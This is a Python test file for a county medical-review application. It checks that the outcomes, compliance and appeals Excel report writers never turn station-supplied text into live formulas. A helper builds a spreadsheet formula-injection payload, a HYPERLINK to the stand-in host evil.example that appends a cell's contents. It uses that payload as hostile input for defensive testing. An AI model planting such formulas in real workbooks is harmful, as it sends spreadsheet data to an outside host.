"""The report workbooks carry text that came in from stations' packages (station,
hospital, disease, applicant names, the committee's reasons): none of it may ever
become a formula in the county's spreadsheet program."""

from __future__ import annotations

import dataclasses
from datetime import date
from pathlib import Path

import pytest

from app.review.appeal_report import AppealLine, AppealReport
from app.review.reports import (
    Compliance,
    ComplianceCase,
    HospitalRow,
    OutcomeRow,
    QuarterOutcomes,
)
from app.review.reports_workbook import write_appeals, write_compliance, write_outcomes
from tests.app.printing.helpers import FORMULA_PREFIXES, hostile, live_cells, text_values

QUARTER = date(2026, 10, 1)
ROW = OutcomeRow("S001", "宜沟镇合管站", "HTN", "高血压", received=3, approved=2, rejected=1)
HOSPITAL = HospitalRow("H001", "汤阴县人民医院", "secondary", True, approved=2, rejected=1)
CASE = ComplianceCase(
    "S001-2026-000001", "王秀英", "S001", "HTN", "高血压", "rejected", QUARTER, ("证据不足",)
)

APPEAL = AppealLine(
    "S001-2026-000002", "李建国", "S001", "HTN", "高血压", QUARTER, ("已复查",), "upheld", QUARTER
)


def _evil(prefix: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?"&A3,"-王")'


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_the_outcomes_sheet_never_holds_a_formula(tmp_path: Path, prefix: str) -> None:
    text = _evil(prefix)
    row = hostile(ROW, text)
    out = tmp_path / "outcomes.xlsx"
    write_outcomes(QuarterOutcomes(QUARTER, (row,), ROW), text, out)
    assert live_cells(out) == []
    assert text.replace("\r", "\n") in text_values(out)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_the_compliance_sheets_never_hold_a_formula(tmp_path: Path, prefix: str) -> None:
    text = _evil(prefix)
    hospital = dataclasses.replace(hostile(HOSPITAL, text), level="secondary")
    case = dataclasses.replace(hostile(CASE, text), outcome="rejected", reasons=(text, text))
    out = tmp_path / "compliance.xlsx"
    write_compliance(
        Compliance(QUARTER, (hospital,), HOSPITAL), lambda code, quarter: [case], text, out
    )
    assert live_cells(out) == []
    shown = text.replace("\r", "\n")
    assert shown in text_values(out)
    assert f"{shown}；{shown}" in text_values(out)  # the reasons, joined


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_the_appeals_sheet_never_holds_a_formula(tmp_path: Path, prefix: str) -> None:
    text = _evil(prefix)
    line = dataclasses.replace(
        hostile(APPEAL, text), standing="upheld", reasons=(text, "补充出院记录")
    )
    out = tmp_path / "appeals.xlsx"
    write_appeals(AppealReport(QUARTER, (line,), {"upheld": 1}), text, out)
    assert live_cells(out) == []
    shown = text.replace("\r", "\n")
    assert shown in text_values(out) and f"{shown}；补充出院记录" in text_values(out)
    assert "改判通过" in text_values(out)
